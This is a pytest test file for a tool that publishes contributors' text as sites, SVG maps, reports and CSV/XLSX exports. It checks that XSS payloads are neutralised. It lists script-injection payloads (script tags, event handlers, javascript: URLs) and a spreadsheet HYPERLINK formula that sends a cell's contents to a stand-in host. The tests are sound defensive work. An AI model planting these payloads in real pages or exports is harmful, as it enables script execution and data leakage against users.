"""No script injection: contributors' text never becomes executable in pages, maps or reports.

Outputs are scanned as HTML (not as strings), so an escaped `&lt;script&gt;` is fine
and only real elements and attributes count.
"""

from __future__ import annotations

import json
from html.parser import HTMLParser
from pathlib import Path

import pytest

from conftest import record
from insightmap.cli import COMMANDS
from insightmap.sanitize import clean_html, escape

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "img onerror": "<img src=x onerror=alert(1)>",
    "markdown javascript link": "[klicka](javascript:alert(1))",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg onload": "<svg onload=alert(1)>",
    "closing title": "</title><script>alert(1)</script>",
    "attribute breakout": '"><script>alert(1)</script>',
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "a href javascript": '<a href="javascript:alert(1)">x</a>',
    "a href entity-encoded javascript": '<a href="jav&#x61;script:alert(1)">x</a>',
    "style expression": '<p style="background:url(javascript:alert(1))">x</p>',
    "object data": '<object data="javascript:alert(1)"></object>',
    "form action": '<form action="javascript:alert(1)"><button>x</button></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
}


class Scanner(HTMLParser):
    """Collect every executable construct in an HTML (or SVG) document."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._in_script = False
        self._script_attrs: dict[str, str | None] = {}

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "script":
            self._in_script = True
            self._script_attrs = dict(attrs)
            if "alert" in (dict(attrs).get("src") or ""):
                self.found.append(f"script src {attrs}")
        if tag in ("iframe", "object", "embed", "form", "meta") and "alert" in repr(attrs):
            self.found.append(f"<{tag}> {attrs}")
        for name, value in attrs:
            text = (value or "").strip().lower().replace("\t", "").replace("\n", "")
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}={value}>")
            if name in ("href", "src", "xlink:href", "action", "data", "formaction") and text.startswith(
                ("javascript:", "vbscript:", "data:text/html")
            ):
                self.found.append(f"<{tag} {name}={value}>")
            if name == "style" and ("javascript:" in text or "expression(" in text):
                self.found.append(f"<{tag} style={value}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and "alert(1)" in data:
            self.found.append(f"<script>{data[:60]}")


def executable(html: str) -> list[str]:
    """Return the executable constructs found in html (empty when it is safe)."""
    scanner = Scanner()
    scanner.feed(html)
    scanner.close()
    return scanner.found


def test_scanner_finds_every_payload_raw():
    # The scanner itself must see each HTML payload, or the other tests prove nothing.
    for name, payload in PAYLOADS.items():
        if name != "markdown javascript link":
            assert executable(payload), name


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_clean_html_removes_payload(name):
    assert executable(clean_html(f"<p>före</p>{PAYLOADS[name]}<p>efter</p>")) == []


def test_clean_html_keeps_ordinary_markup():
    html = '<p>Ett <strong>viktigt</strong> <a href="https://example.se/a">citat</a></p>'
    assert clean_html(html) == html
    assert "<td>1</td>" in clean_html("<table><tr><td>1</td></tr></table>")


def test_allow_raw_html_is_an_explicit_opt_out():
    raw = "<p>x</p><script>alert(1)</script>"
    assert clean_html(raw, allow_raw_html=True) == raw


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_escape_makes_payload_inert_in_text_and_attribute(name):
    value = escape(PAYLOADS[name])
    assert executable(f"<p>{value}</p>") == []
    assert executable(f'<a title="{value}" href="/x">x</a>') == []


# --- hostile projects ---------------------------------------------------------------------------

P = PAYLOADS


def _hostile_config() -> str:
    organisations = {
        f"org{i}": {"name": payload, "type": "civil-society"} for i, payload in enumerate(P.values())
    }
    return json.dumps(
        {
            "language": "sv",
            "title": P["closing title"],
            "organisations": organisations,
            "vocabulary": {"subpopulation": {"elever": {"sv": P["svg script"], "en": P["script"]}}},
        }
    )


def _hostile_files() -> dict[str, str]:
    files = {}
    for i, (name, payload) in enumerate(P.items()):
        body = f"Brödtext {payload} mer text.\n\n{payload}\n\n[länk](javascript:alert(1))"
        files[f"insights/h{i}.md"] = record(
            title=json.dumps(f"{name}: {payload}"),
            organisation=f"org{i}",
            subpopulation="[adults, elever]",
            quotes=json.dumps([payload, f'Hon sa "{payload}"']),
            source=json.dumps(f"javascript:alert({i})"),
            body=body,
        )
    files["maps/karta.yml"] = json.dumps(
        {"title": P["closing title"], "description": P["img onerror"], "colour-by": "organisation"}
    )
    return files


def _scan_tree(folder: Path) -> dict[str, list[str]]:
    problems = {}
    for path in sorted(folder.rglob("*")):
        if path.suffix in (".html", ".svg", ".xml"):
            found = executable(path.read_text(encoding="utf-8", errors="replace"))
        elif path.name == "search_index.json":
            docs = json.loads(path.read_text(encoding="utf-8"))["docs"]
            found = [f for d in docs for f in executable(d.get("title", "") + d.get("text", ""))]
        else:
            continue
        if found:
            problems[path.relative_to(folder).as_posix()] = found[:3]
    return problems


def test_hostile_project_checks_clean(corpus, run):
    # The payloads are valid records: the defence is in the output, not in refusing text.
    root = corpus(_hostile_files(), config=_hostile_config())
    result = run("-C", root, "check")
    assert result.exit_code == 0, result.output


def test_map_svg_has_no_payload(corpus, run):
    root = corpus(_hostile_files(), config=_hostile_config())
    out = root / "karta.svg"
    result = run("-C", root, "map", "--map", "karta", "-o", out)
    assert result.exit_code == 0, result.output
    svg = out.read_text(encoding="utf-8")
    assert executable(svg) == []
    assert "<script" not in svg


def test_map_markdown_table_has_no_payload(corpus, run):
    root = corpus(_hostile_files(), config=_hostile_config())
    result = run("-C", root, "map", "--format", "markdown")
    assert result.exit_code == 0, result.output
    # The table is Markdown that the site renders: raw HTML in it would reach the page.
    assert executable(result.output) == [], result.output


needs_build = pytest.mark.skipif("build" not in COMMANDS, reason="`insightmap build` not yet available")
needs_report = pytest.mark.skipif("report" not in COMMANDS, reason="`insightmap report` not yet available")


@needs_build
def test_built_site_has_no_payload(corpus, run):
    root = corpus(_hostile_files(), config=_hostile_config())
    result = run("-C", root, "build")
    assert result.exit_code == 0, result.output
    assert _scan_tree(root / "site") == {}
    # Material's own scripts only: every <script src> points into the site's assets.
    for page in (root / "site").rglob("*.html"):
        text = page.read_text(encoding="utf-8")
        assert "alert(1)</script>" not in text, page


@needs_build
def test_allow_raw_html_keeps_raw_html_in_site(corpus, run):
    config = "language: sv\nallow_raw_html: true\n"
    root = corpus({"insights/a.md": record(body='<div class="rå">Rå <mark>HTML</mark></div>')}, config=config)
    result = run("-C", root, "build")
    assert result.exit_code == 0, result.output
    pages = "".join(p.read_text(encoding="utf-8") for p in (root / "site").rglob("*.html"))
    assert '<div class="rå">Rå <mark>HTML</mark></div>' in pages


@needs_report
def test_board_report_has_no_payload(corpus, run, tmp_path):
    root = corpus(_hostile_files(), config=_hostile_config())
    out = tmp_path / "rapport.html"
    result = run("-C", root, "report", "-o", out)
    assert result.exit_code == 0, result.output
    assert executable(out.read_text(encoding="utf-8")) == []


FORMULA_START = ("=", "+", "-", "@")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_neutralises_spreadsheet_formulas(corpus, run, tmp_path, fmt):
    payload = '=HYPERLINK("https://example.invalid/?"&A2;"Klicka")'
    root = corpus({"insights/a.md": record(title=json.dumps(payload), quotes=json.dumps(["@SUM(1+1)"]))})
    out = tmp_path / f"ut.{fmt}"
    assert run("-C", root, "export", "-o", out).exit_code == 0
    if fmt == "csv":
        import csv

        cells = [c for row in csv.reader(out.read_text(encoding="utf-8-sig").splitlines()) for c in row]
    else:
        from openpyxl import load_workbook

        sheet = load_workbook(out).worksheets[0]
        # In xlsx the text may stay as it is, but it must be stored as text, not as a formula.
        assert [c.value for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
        return
    assert not [c for c in cells if c.startswith(FORMULA_START) and "HYPERLINK" in c or c.startswith("@SUM")]
